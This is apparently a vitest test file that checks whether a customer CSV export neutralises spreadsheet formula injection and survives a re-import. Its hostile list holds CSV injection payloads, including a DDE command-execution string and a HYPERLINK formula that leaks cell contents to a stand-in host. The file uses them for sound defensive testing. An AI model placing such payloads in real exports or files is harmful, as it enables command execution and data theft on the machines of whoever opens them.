import { parse } from 'csv-parse/sync'
import { beforeAll, describe, expect, test } from 'vitest'
import { imports } from '../../src/imports/slice.ts'
import { file } from '../contract/one-of-each.ts'
import { testHouse } from '../house.ts'

/** CVE-2020-15301 and ASVS 1.2.10: what a spreadsheet would run leaves as text, and comes back as it was. */
const it = testHouse()

const hostile = [
  '=1+1',
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("http://canary.example/?"&A1,"click")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)*cmd',
  '=1,2;3',
  '="quoted"',
  '=1"="2',
  "'=1+1",
  ';=1+1',
  ',=1+1',
  '"=1+1',
  '%0A=1+1',
  '＝1+1',
]
const harmless = ['-5', '+48 22 123 45 67', 'Smith-Jones', 'a=b', '5', '0']

beforeAll(async () => {
  for (const name of [...hostile, ...harmless]) {
    const reply = await it
      .as('ada')
      .post('/customers', { kind: 'account', name, note: name, tags: [name.slice(0, 60)] })
    if (reply.status >= 300) throw new Error(reply.text)
  }
})

const exported = async () => (await it.as('ada').get('/customers/export.csv?columns=name,tags,source&sort=name')).text

describe('an export', () => {
  test('CVE-2020-15301: no cell begins with a sign that a spreadsheet runs', async () => {
    const text = await exported()
    const rows: string[][] = parse(text, { bom: true })
    expect(rows.length).toBeGreaterThan(hostile.length + harmless.length)
    const wrong = rows.flat().filter((cell) => /^[=+\-@\t\r\0]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))
    expect(wrong).toEqual([])
  })

  test('is imported again as it was, hostile or not', async () => {
    const text = await exported()
    const ada = it.as('ada')
    const before = (await it.database.query<{ name: string }>('select name from customers')).map((one) => one.name)
    const draft = JSON.parse((await file(it, 'ada', 'customers', 'back.csv', text)).payload)
    const { settings } = (await ada.get(`/imports/${draft.id}/detected`)).body
    const shown = await ada.post(`/imports/${draft.id}/preview`, {
      settings: { ...settings, knownBy: null, mode: 'create' },
    })
    expect(shown.status).toBe(200)
    const started = await ada.post(
      `/imports/${draft.id}/start`,
      { settings: { ...settings, knownBy: null, mode: 'create' } },
      { 'idempotency-key': 'a round trip' },
    )
    expect(started.status, started.text).toBe(202)
    await imports.runs?.import?.(started.body.runId, it.house)
    const after = (await it.database.query<{ name: string }>('select name from customers')).map((one) => one.name)
    const twice = [...hostile, ...harmless].filter((name) => after.filter((one) => one === name).length !== 2)
    expect(twice).toEqual([])
    expect(after.length).toBeGreaterThan(before.length)
  })
})
